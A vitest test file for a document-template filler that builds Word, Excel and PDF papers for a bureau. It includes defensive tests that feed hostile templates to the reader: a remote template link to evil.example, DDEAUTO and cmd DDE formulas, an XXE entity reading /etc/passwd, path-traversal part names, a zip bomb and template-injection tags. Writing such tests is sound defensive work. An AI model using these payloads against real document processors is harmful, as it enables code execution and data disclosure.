import { describe, expect, test } from 'vitest';
import * as XLSX from '@e965/xlsx';
import { strFromU8, unzipSync } from 'fflate';
import mammoth from 'mammoth';
import { CERTIFICATE_PAPERS } from '#app/certificate/papers/certificate-papers.ts';
import { SEALED_PAPERS } from '#app/exam/release/printed/printed-papers.ts';
import { EXAM_PAPERS } from '#app/exam/sitting/papers/sitting-papers.ts';
import { fillPaper, defaultTemplate } from '#app/office/document/fill-paper.server.ts';
import { drawPdf } from '#app/office/document/format/pdf.server.ts';
import { readTemplate } from '#app/office/document/format/read-template.server.ts';
import { readSheetHeads } from '#app/office/document/format/sheet-heads.server.ts';
import { fillXlsx } from '#app/office/document/format/xlsx-fill.server.ts';
import { MAX_TEMPLATE_BYTES } from '#app/office/document/limits.ts';
import { OFFICE_PAPERS } from '#app/office/document/papers/office-papers.ts';
import type { PaperKind } from '#app/office/document/paper.ts';
import { exampleData, isRestylable } from '#app/office/document/paper.ts';
import type { Outcome } from '#app/platform/result/outcome.ts';
import { TRAINING_PAPERS } from '#app/training/session/papers/class-papers.ts';
import { aDocx, anXlsx, withPart } from '#test/support/paper-files.ts';

const PAPERS = [
  ...OFFICE_PAPERS,
  ...CERTIFICATE_PAPERS,
  ...TRAINING_PAPERS,
  ...EXAM_PAPERS,
  ...SEALED_PAPERS,
];

const KIND: PaperKind = {
  code: 'test.roster',
  title: '名单',
  format: 'xlsx',
  area: '测试',
  issuer: 'unit',
  reads: 'document.read',
  fields: [
    { name: '单位名称', label: '', example: '示例市城市管理局' },
    { name: '姓名', label: '', example: '张某', repeats: '学员' },
    { name: '证号', label: '', example: '007', repeats: '学员' },
    { name: '成绩', label: '', example: '87.5', repeats: '学员', isFigure: true },
  ],
  layout: { blocks: [{ kind: 'title', text: '{单位名称}' }] },
};

function valueOf<T>(outcome: Outcome<T>): T {
  if (!outcome.ok) throw new Error(`${outcome.code} ${String(outcome.detail?.text ?? '')}`);
  return outcome.value;
}

const wordText = async (bytes: Uint8Array) =>
  (await mammoth.extractRawText({ buffer: Buffer.from(bytes) })).value;
const grid = (bytes: Uint8Array, sheet = 0) => {
  const book = XLSX.read(bytes, { cellFormula: true, cellNF: true, sheetStubs: true });
  const found = book.Sheets[book.SheetNames[sheet] ?? ''] ?? {};
  return {
    cell: (address: string) => found[address] as XLSX.CellObject | undefined,
    merges: found['!merges'] ?? [],
  };
};
const people = (...rows: readonly (readonly [string, string, string])[]) => ({
  values: { 单位名称: '某局' },
  rows: { 学员: rows.map(([姓名, 证号, 成绩]) => ({ 姓名, 证号, 成绩 })) },
});

describe('default templates are made from the layout and read back by an independent reader', () => {
  test.each(PAPERS.filter(isRestylable).map((paper) => [paper.code, paper] as const))(
    '%s',
    async (_, paper) => {
      const template = await defaultTemplate(paper);
      expect(await readTemplate(paper, template.bytes)).toEqual({
        ok: true,
        value: { format: paper.format, needsMapping: false },
      });
      const data = exampleData(paper);
      const filled = valueOf(await fillPaper(paper, template, data));
      const book = paper.format === 'xlsx' ? XLSX.read(filled) : null;
      const text = book
        ? XLSX.utils.sheet_to_csv(book.Sheets[book.SheetNames[0] ?? ''] ?? {})
        : await wordText(filled);
      expect(text).not.toMatch(/[{}]|undefined/);
      for (const rows of Object.values(data.rows ?? {})) {
        const [first] = Object.values(rows[0] ?? {});
        // The reader of Word text leaves out line breaks inside a paragraph.
        for (const line of (first ?? 'a row').split('\n')) expect(text).toContain(line);
      }
    },
  );

  test('the head of a table repeats on every page', async () => {
    const paper = TRAINING_PAPERS.find(({ code }) => code === 'training.notice');
    const { bytes } = await defaultTemplate(paper ?? KIND);
    expect(strFromU8(unzipSync(bytes)['word/document.xml'] ?? new Uint8Array())).toContain('<w:tblHeader');
  });
});

describe('a template of the bureau is filled', () => {
  test('Word: fields cut into runs, line breaks, signs of XML; an unknown value stays empty', async () => {
    const template = await aDocx('致 {单位名称}：', '{文号}');
    valueOf(await readTemplate(KIND, template));
    const asked = { versionId: null, format: 'docx', bytes: template, mapping: null } as const;
    const data = { values: { 单位名称: '<某局> & "乙"\n第二行 {文号}' } };
    const text = await wordText(valueOf(await fillPaper(KIND, asked, data)));
    expect(text).toContain('致 <某局> & "乙"');
    expect(text).toContain('第二行 {文号}：');
  });

  test('Excel: the row repeats, what stands below moves, merged heads stay, sums grow', async () => {
    const template = await anXlsx((book) => {
      const sheet = book.addWorksheet('名单');
      sheet.mergeCells('A1:D1');
      sheet.getCell('A1').value = '{单位名称}学员名单';
      sheet.getRow(2).values = ['序号', '人员', null, '成绩'];
      sheet.mergeCells('B2:C2');
      sheet.getRow(3).values = ['{序号}', '{姓名}', '{证号}', '{成绩}'];
      sheet.getCell('B3').font = { bold: true };
      sheet.getCell('D4').value = { formula: 'SUM(D3:D3)' };
      sheet.mergeCells('A5:D5');
      sheet.getCell('A5').value = '填表人：';
    });
    valueOf(await readTemplate(KIND, template));
    const data = people(['甲', '007', '90'], ['乙', '008', '87.5'], ['=1+1', '@x', '不及格']);
    const { cell, merges } = grid(valueOf(await fillXlsx(template, data, KIND, null)));
    expect(cell('A1')?.v).toBe('某局学员名单');
    expect(['A3', 'A4', 'A5'].map((at) => cell(at)?.v)).toEqual(['1', '2', '3'].map(Number));
    expect(cell('C3')).toMatchObject({ t: 's', v: '007' });
    expect(cell('D4')).toMatchObject({ t: 'n', v: 87.5 });
    expect(cell('D6')?.f).toBe('SUM(D3:D5)');
    expect(cell('A7')?.v).toBe('填表人：');
    expect(merges.map((range) => XLSX.utils.encode_range(range)).sort()).toEqual(['A1:D1', 'A7:D7', 'B2:C2']);
  });

  test('Excel: a value never becomes a formula', async () => {
    const template = await anXlsx((book) => {
      book.addWorksheet('名单').getRow(1).values = ['{姓名}', '{证号}', '{成绩}'];
    });
    const data = people(['=HYPERLINK("http://x","y")', '+1', '-2+3'], ['@SUM(A1)', '\t=1', '12']);
    const { cell } = grid(valueOf(await fillXlsx(template, data, KIND, null)));
    for (const at of ['A1', 'B1', 'C1', 'A2', 'B2']) {
      expect(cell(at)?.f).toBeUndefined();
      expect(cell(at)).toMatchObject({ t: 's', z: '@' });
    }
    expect(cell('C2')).toMatchObject({ t: 'n', v: 12 });
  });

  test('Excel: an empty list leaves its one row blank', async () => {
    const template = await anXlsx((book) => {
      const sheet = book.addWorksheet('名单');
      sheet.getRow(1).values = ['{姓名}'];
      sheet.getRow(2).values = ['填表人'];
    });
    const { cell } = grid(valueOf(await fillXlsx(template, people(), KIND, null)));
    expect(cell('A1')?.v).toBeUndefined();
    expect(cell('A2')?.v).toBe('填表人');
  });
});

describe('a provincial workbook without fields is filled by its columns', () => {
  const provincial = (blankRows: number) =>
    anXlsx((book) => {
      const sheet = book.addWorksheet('汇总表');
      sheet.mergeCells('A1:E1');
      sheet.getCell('A1').value = '全省行政执法人员汇总表';
      sheet.getRow(2).values = ['序号', '基本情况', null, '成绩'];
      sheet.getRow(3).values = [null, '姓名', '证号', null];
      for (const range of ['A2:A3', 'B2:C2', 'D2:D3']) sheet.mergeCells(range);
      for (let row = 0; row < blankRows; row += 1)
        sheet.getCell(4 + row, 1).border = { top: { style: 'thin' } };
      sheet.mergeCells(4 + blankRows, 1, 4 + blankRows, 5);
      sheet.getCell(4 + blankRows, 1).value = '填表人：　审核人：';
    });
  const mapping = {
    sheet: '汇总表',
    headRow: 3,
    firstRow: 4,
    list: '学员',
    columns: { A: '序号', B: '姓名', C: '证号', D: '成绩' },
  };
  const data = people(['甲', '001', '90'], ['乙', '002', '80'], ['丙', '003', '70']);

  test('it is kept, but asks for its columns first', async () => {
    expect(valueOf(await readTemplate(KIND, await provincial(1)))).toEqual({
      format: 'xlsx',
      needsMapping: true,
    });
  });

  test('its head is found below the title, merged words together', async () => {
    const [sheet] = await readSheetHeads(await provincial(1), ['序号', '姓名', '证号', '成绩'], null);
    expect(sheet?.headRow).toBe(3);
    expect(sheet?.columns).toEqual([
      { column: 'A', text: '序号' },
      { column: 'B', text: '基本情况 / 姓名' },
      { column: 'C', text: '基本情况 / 证号' },
      { column: 'D', text: '成绩' },
    ]);
  });

  test.each([0, 1, 5])('with %i prepared rows: head and footer keep their merges', async (blankRows) => {
    const filled = valueOf(await fillXlsx(await provincial(blankRows), data, KIND, mapping));
    const { cell, merges } = grid(filled);
    expect(['B4', 'B5', 'B6'].map((at) => cell(at)?.v)).toEqual(['甲', '乙', '丙']);
    expect(cell('C6')).toMatchObject({ t: 's', v: '003' });
    const footer = 4 + Math.max(3, blankRows);
    expect(cell(`A${footer}`)?.v).toBe('填表人：　审核人：');
    expect(merges.map((range) => XLSX.utils.encode_range(range)).sort()).toEqual(
      ['A1:E1', 'A2:A3', 'B2:C2', 'D2:D3', `A${footer}:E${footer}`].sort(),
    );
  });
});

describe('a hard provincial workbook keeps what it is made of', () => {
  const hard = () =>
    anXlsx((book) => {
      const cover = book.addWorksheet('封面');
      cover.mergeCells('A1:C2');
      cover.getCell('A1').value = '全省行政执法人员情况';
      cover.getCell('B4').value = { formula: "SUM('一、汇总表'!E5:E6)" };
      cover.getCell('B5').value = { formula: "'一、汇总表'!E7" };
      const sheet = book.addWorksheet('一、汇总表');
      sheet.mergeCells('A1:F1');
      sheet.getCell('A1').value = '行政执法人员汇总表';
      sheet.mergeCells('A2:F2');
      sheet.getCell('A2').value = '填报单位：';
      sheet.getRow(3).values = ['序号', '基本情况', null, '考试', null, '备注'];
      sheet.getRow(4).values = [null, '姓名', '证号', '是否合格', '成绩', null];
      for (const range of ['A3:A4', 'B3:C3', 'D3:E3', 'F3:F4']) sheet.mergeCells(range);
      sheet.getCell('E7').value = { formula: 'SUM(E5:E6)' };
      sheet.getCell('D7').value = '合计';
      sheet.mergeCells('A8:F8');
      sheet.getCell('A8').value = '填表人：　审核人：　填报日期：';
      const list = book.addWorksheet('字典');
      list.getRow(1).values = ['合格', '不合格'];
      list.state = 'hidden';
    });
  const VALIDATIONS =
    '<dataValidations count="2"><dataValidation type="list" allowBlank="1" sqref="D5:D6">' +
    '<formula1>字典!$A$1:$B$1</formula1></dataValidation><dataValidation type="whole" sqref="E6 B8">' +
    '<formula1>E7</formula1></dataValidation></dataValidations>';
  const withLists = async () =>
    withPart(await hard(), 'xl/worksheets/sheet2.xml', (xml) =>
      xml.replace('<pageMargins', () => `${VALIDATIONS}<pageMargins`),
    );
  const mapping = {
    sheet: '一、汇总表',
    headRow: 4,
    firstRow: 5,
    list: '学员',
    columns: { A: '序号', B: '姓名', C: '证号', E: '成绩' },
  };
  const five = people(
    ...['甲', '乙', '丙', '丁', '戊'].map((name, at) => [name, `00${at}`, String(60 + at)] as const),
  );

  test('it is read: no field of ours, its columns wait to be named', async () => {
    expect(valueOf(await readTemplate(KIND, await withLists()))).toEqual({
      format: 'xlsx',
      needsMapping: true,
    });
    const [, head] = await readSheetHeads(await withLists(), ['序号', '姓名', '证号', '成绩'], null);
    expect(head?.headRow).toBe(4);
    expect(head?.columns.map(({ text }) => text)).toContain('考试 / 成绩');
  });

  test('two-row heads and the footer stay merged, sums and formulas of other sheets follow the rows', async () => {
    const filled = valueOf(await fillXlsx(await withLists(), five, KIND, mapping));
    const { cell, merges } = grid(filled, 1);
    expect(['B5', 'B9'].map((at) => cell(at)?.v)).toEqual(['甲', '戊']);
    expect(cell('E10')?.f).toBe('SUM(E5:E9)');
    expect(cell('A11')?.v).toBe('填表人：　审核人：　填报日期：');
    expect(merges.map((range) => XLSX.utils.encode_range(range)).sort()).toEqual(
      ['A1:F1', 'A2:F2', 'A3:A4', 'B3:C3', 'D3:E3', 'F3:F4', 'A11:F11'].sort(),
    );
    expect(grid(filled, 0).cell('B4')?.f).toBe("SUM('一、汇总表'!E5:E9)");
    expect(grid(filled, 0).cell('B5')?.f).toBe("'一、汇总表'!E10");
    const book = XLSX.read(filled);
    expect(book.SheetNames).toEqual(['封面', '一、汇总表', '字典']);
    expect(book.Workbook?.Sheets?.[2]?.Hidden).toBe(1);
  });

  test('drop-down lists are kept and reach over the new rows', async () => {
    const filled = valueOf(await fillXlsx(await withLists(), five, KIND, mapping));
    const xml = strFromU8(unzipSync(filled)['xl/worksheets/sheet2.xml'] ?? new Uint8Array());
    expect(xml).toContain('sqref="D5:D9"');
    expect(xml).toContain('<formula1>字典!$A$1:$B$1</formula1>');
    expect(xml).toContain('sqref="E6:E9 B11"');
    expect(xml).toContain('<formula1>E10</formula1>');
    expect(xml.indexOf('<dataValidations')).toBeGreaterThan(xml.indexOf('</mergeCells>'));
    expect(xml.indexOf('<dataValidations')).toBeLessThan(xml.indexOf('<pageMargins'));
  });
});

describe('a broken or hostile template is refused with the reason', () => {
  const refusedText = async (bytes: Uint8Array): Promise<string> => {
    const read = await readTemplate(KIND, bytes);
    return read.ok ? '' : String(read.detail?.text);
  };

  test('wrong kinds of file', async () => {
    expect(await refusedText(new Uint8Array())).toContain('空的');
    expect(await refusedText(new TextEncoder().encode('%PDF-1.7'))).toContain('PDF');
    expect(await refusedText(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 1, 2, 3]))).toContain('旧格式');
    expect(await refusedText(new TextEncoder().encode('MZ program'))).toContain('不是 Word 文档');
    expect(await refusedText(new Uint8Array(MAX_TEMPLATE_BYTES + 1))).toContain('超过 5 MB');
    expect(await refusedText(withPart(await aDocx('{单位名称}'), 'word/document.xml', ''))).not.toBe('');
    const cut = await aDocx('{单位名称}');
    expect(await refusedText(cut.slice(0, cut.length - 40))).toContain('损坏');
  });

  test('a zip bomb, and one that lies about its sizes', async () => {
    const bomb = withPart(await aDocx('{单位名称}'), 'word/media/x.xml', new Uint8Array(30 * 1024 * 1024));
    expect(await refusedText(bomb)).toContain('压缩比');
    const lying = withPart(await aDocx('{单位名称}'), 'word/media/x.xml', new Uint8Array(8 * 1024 * 1024));
    const view = new DataView(lying.buffer);
    for (let at = 0; at < lying.length - 46; at += 1)
      if (view.getUint32(at, true) === 0x02014b50 && view.getUint32(at + 24, true) > 8_000_000)
        view.setUint32(at + 24, 900_000, true);
    expect(await refusedText(lying)).not.toBe('');
  });

  test('macros, objects, links to the outside, fields that fetch', async () => {
    const file = await aDocx('{单位名称}');
    expect(await refusedText(withPart(file, 'word/vbaProject.bin', 'x'))).toContain('宏');
    expect(await refusedText(withPart(file, 'word/embeddings/oleObject1.bin', 'x'))).toContain('OLE');
    const rels =
      '<Relationship Id="rId9" Type="t" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>';
    const linked = withPart(file, 'word/_rels/document.xml.rels', (text) =>
      text.replace('</Relationships>', rels),
    );
    expect(await refusedText(linked)).toContain('evil.example');
    const dde = '<w:p><w:r><w:fldSimple w:instr="DDEAUTO c:\\\\x.exe"/></w:r></w:p></w:body>';
    expect(
      await refusedText(withPart(file, 'word/document.xml', (text) => text.replace('</w:body>', dde))),
    ).toContain('DDEAUTO');
  });

  test('workbooks: formulas that reach out, sheets as large as the world, charts', async () => {
    const file = await anXlsx((book) => {
      book.addWorksheet('S').getRow(1).values = ['{姓名}'];
    });
    const sheet = 'xl/worksheets/sheet1.xml';
    const withFormula = (formula: string) =>
      withPart(file, sheet, (text) => text.replace('</row>', `<c r="B1"><f>${formula}</f></c></row>`));
    expect(await refusedText(withFormula('WEBSERVICE("http://x")'))).toContain('公式');
    expect(await refusedText(withFormula('cmd|&apos;/c calc&apos;!A0'))).toContain('公式');
    const merged = '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>';
    expect(
      await refusedText(withPart(file, sheet, (text) => text.replace('</sheetData>', merged))),
    ).toContain('过多');
    const far = '<row r="1048576"><c r="A1048576"/></row></sheetData>';
    expect(await refusedText(withPart(file, sheet, (text) => text.replace('</sheetData>', far)))).toContain(
      '过大',
    );
    expect(await refusedText(withPart(file, 'xl/charts/chart1.xml', '<c/>'))).toContain('图表');
  });

  test('a macro document under another name, entity declarations, names that lead out of the archive', async () => {
    const file = await aDocx('{单位名称}');
    const renamed = withPart(file, '[Content_Types].xml', (text) =>
      text.replace(
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        'application/vnd.ms-word.document.macroEnabled.main+xml',
      ),
    );
    expect(await refusedText(renamed)).toContain('宏');
    const entities = withPart(file, 'word/document.xml', (text) =>
      text.replace('<w:document', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document'),
    );
    expect(await refusedText(entities)).toContain('实体');
    for (const name of ['../evil.xml', 'word/../../evil.xml', '/etc/evil.xml', 'word\\evil.xml'])
      expect(await refusedText(withPart(file, name, '<x/>'))).toContain('不合规的部件名');
    expect(await refusedText(withPart(file, 'WORD/document.xml', '<x/>'))).toContain('重名');
    const template =
      '<Relationship Id="r1" Type="t/attachedTemplate" Target="file:///\\\\evil\\t.dotm" TargetMode="External"/>';
    const attached = withPart(
      file,
      'word/_rels/settings.xml.rels',
      `<Relationships>${template}</Relationships>`,
    );
    expect(await refusedText(attached)).toContain('附加模板');
  });

  test('formulas that come back to themselves, also over another sheet', async () => {
    const looped = (formulas: readonly (readonly [string, string])[]) =>
      anXlsx((book) => {
        const sheet = book.addWorksheet('甲');
        sheet.getCell('A1').value = '{姓名}';
        for (const [at, formula] of formulas) sheet.getCell(at).value = { formula };
        book.addWorksheet('乙').getCell('A1').value = { formula: '甲!C3' };
      });
    expect(await refusedText(await looped([['B1', 'B1+1']]))).toContain('循环引用（甲!B1）');
    expect(
      await refusedText(
        await looped([
          ['B1', 'SUM(B2:B9)'],
          ['B5', 'B1*2'],
        ]),
      ),
    ).toContain('循环引用');
    expect(await refusedText(await looped([['C3', '乙!A1']]))).toContain('循环引用');
    expect(
      await refusedText(
        await looped([
          ['B1', 'SUM(C1:C9)'],
          ['B2', 'B1&"B2"'],
        ]),
      ),
    ).toBe('');
  });

  test('tags: unknown, unclosed, expressions, raw XML, a loop over half a table row', async () => {
    expect(await refusedText(await aDocx('{单位名}'))).toContain('是否想写“单位名称”');
    expect(await refusedText(await aDocx('{单位名称'))).toContain('没有闭合');
    expect(await refusedText(await aDocx('{constructor.constructor("return 1")()}'))).toContain(
      '不是可以填写的字段',
    );
    expect(await refusedText(await aDocx('{@单位名称}'))).toContain('不是可以填写的字段');
    expect(await refusedText(await aDocx('通知'))).toContain('没有找到任何字段');
  });
});

describe('the print', () => {
  test('is an A4 PDF with a page for every sixty rows or so', async () => {
    const rows = Array.from({ length: 200 }, (_, index) => ({
      姓名: `张${index}`,
      单位名称: '示例市城市管理局',
    }));
    const paper = TRAINING_PAPERS.find(({ code }) => code === 'training.sign_in') ?? KIND;
    const edge = { unitName: '示例市司法局', day: '2026年11月23日', mark: '文书编号 abc' };
    const pdf = await drawPdf(paper, { values: { 班名: '甲班' }, rows: { 学员: rows } }, edge);
    const text = Buffer.from(pdf).toString('latin1');
    expect(text.startsWith('%PDF-')).toBe(true);
    expect(text.match(/\/Type \/Page\b/g)?.length).toBeGreaterThan(3);
    expect(text).toContain('/MediaBox [0 0 595.28 841.89]');
  });
});
